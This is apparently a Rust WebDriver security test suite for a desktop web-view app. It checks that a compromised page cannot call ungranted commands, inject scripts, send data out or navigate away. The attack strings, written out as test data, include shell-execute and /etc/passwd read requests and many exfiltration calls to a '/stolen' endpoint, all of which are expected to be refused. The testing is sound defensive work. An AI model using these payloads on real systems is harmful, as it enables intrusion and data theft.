//! A page that has turned against the program: what a script in the real window can and cannot do.
//!
//! WebDriver's own scripts stand outside the page's content policy, so each attack is begun by the page itself: from a
//! timer, an event or an element.

use serde_json::{Value, json};

use crate::driver::computer::Computer;
use crate::driver::service::Wire;
use crate::driver::window::Window;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn commands_that_were_not_granted_are_refused() {
    let computer = Computer::start();
    let window = computer.open(&[]).await;
    let picture = json!({ "label": "main", "value": "stolen" });
    for (command, arguments) in [
        ("plugin:dialog|open", json!({ "options": {} })),
        ("plugin:dialog|save", json!({ "options": {} })),
        ("plugin:dialog|message", json!({ "message": "hello" })),
        ("plugin:clipboard-manager|read_text", json!({})),
        (
            "plugin:clipboard-manager|write_text",
            json!({ "text": "stolen" }),
        ),
        ("plugin:clipboard-manager|clear", json!({})),
        ("plugin:window|set_title", picture.clone()),
        ("plugin:window|close", picture.clone()),
        (
            "plugin:window|create",
            json!({ "options": { "label": "other" } }),
        ),
        (
            "plugin:webview|create_webview_window",
            json!({ "options": { "label": "other" } }),
        ),
        ("plugin:webview|internal_toggle_devtools", json!({})),
        (
            "plugin:event|emit",
            json!({ "event": "snapshot-changed", "payload": {} }),
        ),
        ("plugin:app|app_hide", json!({})),
        ("plugin:path|resolve_directory", json!({ "directory": 1 })),
        ("plugin:image|from_path", json!({ "path": "/etc/passwd" })),
        ("plugin:menu|popup", json!({})),
        ("plugin:tray|new", json!({})),
        ("plugin:resources|close", json!({ "rid": 0 })),
        ("plugin:shell|execute", json!({ "program": "sh" })),
        ("plugin:fs|read_text_file", json!({ "path": "/etc/passwd" })),
        (
            "plugin:opener|open_url",
            json!({ "url": "https://example.com" }),
        ),
        ("no_such_command", json!({})),
    ] {
        let refusal = window
            .invoke(command, arguments)
            .await
            .expect_err("the command is refused")
            .to_string();
        assert!(
            refusal.contains("not allowed") || refusal.contains("not found"),
            "{command}: {refusal}"
        );
    }
    assert!(
        window.invoke("snapshot", json!({})).await.is_ok(),
        "while the app's own commands answer"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn scripts_from_outside_do_not_run() {
    let computer = Computer::start();
    let window = computer.open(&[]).await;
    assert_eq!(
        window
            .script("return typeof window.__TAURI__", Vec::new())
            .await,
        "undefined",
        "there is no global way to the program"
    );
    for (name, attack) in [
        ("eval", "eval('window.ran = true')"),
        ("Function", "new Function('window.ran = true')()"),
        ("timer", "setTimeout('window.ran = true')"),
        (
            "inline script",
            "const one = document.createElement('script'); one.textContent = 'window.ran = true'; document.body.append(one)",
        ),
        (
            "data script",
            "const one = document.createElement('script'); one.src = 'data:text/javascript,window.ran=true'; document.body.append(one)",
        ),
        (
            "handler in markup",
            "const one = document.createElement('button'); one.setAttribute('onclick', 'window.ran = true'); document.body.append(one); one.click()",
        ),
        (
            "javascript address",
            "const one = document.createElement('a'); one.href = 'javascript:window.ran=true'; document.body.append(one); one.click()",
        ),
    ] {
        let refused = refusal_of(&window, attack).await;
        assert!(refused, "{name} is refused by the content policy");
        let ran = window
            .script("return window.ran === true", Vec::new())
            .await;
        assert_eq!(ran, false, "{name} did not run");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nothing_leaves_the_page_and_the_page_does_not_leave() {
    let witness = Wire::witness().await;
    let computer = Computer::start();
    let window = computer.open(&[]).await;
    let address = window.script("return location.href", Vec::new()).await;
    window.script("window.here = true", Vec::new()).await;
    let there = format!("{}/stolen", witness.base());
    for (name, attack) in [
        ("fetch", "fetch(THERE).catch(() => {})"),
        (
            "request",
            "const one = new XMLHttpRequest(); one.open('GET', THERE); try { one.send() } catch {}",
        ),
        (
            "socket",
            "try { new WebSocket(THERE.replace('http', 'ws')) } catch {}",
        ),
        ("events", "try { new EventSource(THERE) } catch {}"),
        ("beacon", "navigator.sendBeacon(THERE, 'stolen')"),
        ("picture", "new Image().src = THERE"),
        (
            "script",
            "const one = document.createElement('script'); one.src = THERE; document.body.append(one)",
        ),
        (
            "style",
            "const one = document.createElement('link'); one.rel = 'stylesheet'; one.href = THERE; document.body.append(one)",
        ),
        (
            "frame",
            "const one = document.createElement('iframe'); one.src = THERE; document.body.append(one)",
        ),
        (
            "worker",
            "try { new Worker(THERE) } catch { window.refused = true }",
        ),
        (
            "font",
            "new FontFace('stolen', `url(${THERE})`).load().catch(() => {})",
        ),
        (
            "form",
            "const one = document.createElement('form'); one.action = THERE; one.method = 'post'; document.body.append(one); one.submit()",
        ),
    ] {
        let attack = attack.replace("THERE", &json!(there).to_string());
        assert!(
            refusal_of(&window, &attack).await,
            "{name} is refused by the content policy"
        );
        assert_eq!(
            (witness.connections(), witness.bytes()),
            (0, 0),
            "{name}: nobody was called"
        );
    }
    for (name, attack) in [
        ("location", "location.href = THERE"),
        ("assign", "location.assign(THERE)"),
        ("other file", "location.href = 'file:///etc/passwd'"),
        ("blank", "location.href = 'about:blank'"),
        ("data", "location.href = 'data:text/html,stolen'"),
        ("new window", "window.opened = window.open(THERE)"),
        (
            "new window by link",
            "const one = document.createElement('a'); one.href = THERE; one.target = '_blank'; document.body.append(one); one.click()",
        ),
        (
            "link",
            "const one = document.createElement('a'); one.href = THERE; document.body.append(one); one.click()",
        ),
        (
            "download",
            "const one = document.createElement('a'); one.href = URL.createObjectURL(new Blob(['stolen'])); one.download = 'stolen.txt'; document.body.append(one); one.click()",
        ),
    ] {
        let attack = attack.replace("THERE", &json!(there).to_string());
        begin(&window, &attack).await;
        assert_eq!(
            (witness.connections(), witness.bytes()),
            (0, 0),
            "{name}: nobody was called"
        );
        assert_eq!(
            window
                .script(
                    "return [location.href, window.here === true, window.opened == null]",
                    Vec::new()
                )
                .await,
            json!([address, true, true]),
            "{name}: the same page is still there"
        );
    }
    assert!(
        window.invoke("snapshot", json!({})).await.is_ok(),
        "and still answers"
    );
    assert_eq!(witness.connections(), 0, "nobody was called");
    let files = crate::driver::search::files_below(computer.home());
    assert!(
        !files.iter().any(|file| file.ends_with("stolen.txt")),
        "nothing was written by the page"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_language_itself_cannot_be_tampered_with() {
    let computer = Computer::start();
    let window = computer.open(&[]).await;
    let tampered = page_answer(
        &window,
        "try { Object.prototype.stolen = true } catch {} \
         try { Object.prototype.toString = () => 'stolen' } catch {} \
         try { Object.defineProperty(Object.prototype, 'kind', { value: 'stolen' }) } catch {} \
         return [Object.isFrozen(Object.prototype), ({}).stolen === true, String({}), ({}).kind === undefined]",
    )
    .await;
    assert_eq!(
        tampered,
        json!([true, false, "[object Object]", true]),
        "the base of all objects is frozen"
    );
    assert!(
        window.snapshot().await["account"]["state"] == "none",
        "and the program's answers are its own"
    );
}

/// Begins an attack from a timer of the page, and returns once it was begun.
async fn begin(window: &Window, attack: &str) {
    page_answer(window, attack).await;
}

/// Runs code from a timer of the page, and gives its answer two frames later.
async fn page_answer(window: &Window, body: &str) -> Value {
    let run = format!(
        "window.answer = undefined; \
         setTimeout(() => {{ \
           let answer = null; \
           try {{ answer = (() => {{ {body} }})() ?? null }} catch (error) {{ window.refused = error instanceof EvalError }} \
           requestAnimationFrame(() => requestAnimationFrame(() => {{ window.answer = {{ answer }} }})) \
         }})"
    );
    window.script(&run, Vec::new()).await;
    window
        .until(
            "the attack to be over",
            "return window.answer !== undefined",
        )
        .await;
    window
        .script("return window.answer.answer", Vec::new())
        .await
}

/// Whether the content policy told that it refused the attack, or the language did.
async fn refusal_of(window: &Window, attack: &str) -> bool {
    window
        .script(
            "window.refused = false; window.ran = false; \
             if (!window.watched) { \
               window.watched = true; \
               document.addEventListener('securitypolicyviolation', () => { window.refused = true }) \
             }",
            Vec::new(),
        )
        .await;
    begin(window, attack).await;
    window
        .until(
            &format!("the refusal of {attack}"),
            "return window.refused || window.ran",
        )
        .await;
    window.script("return window.refused", Vec::new()).await == true
}
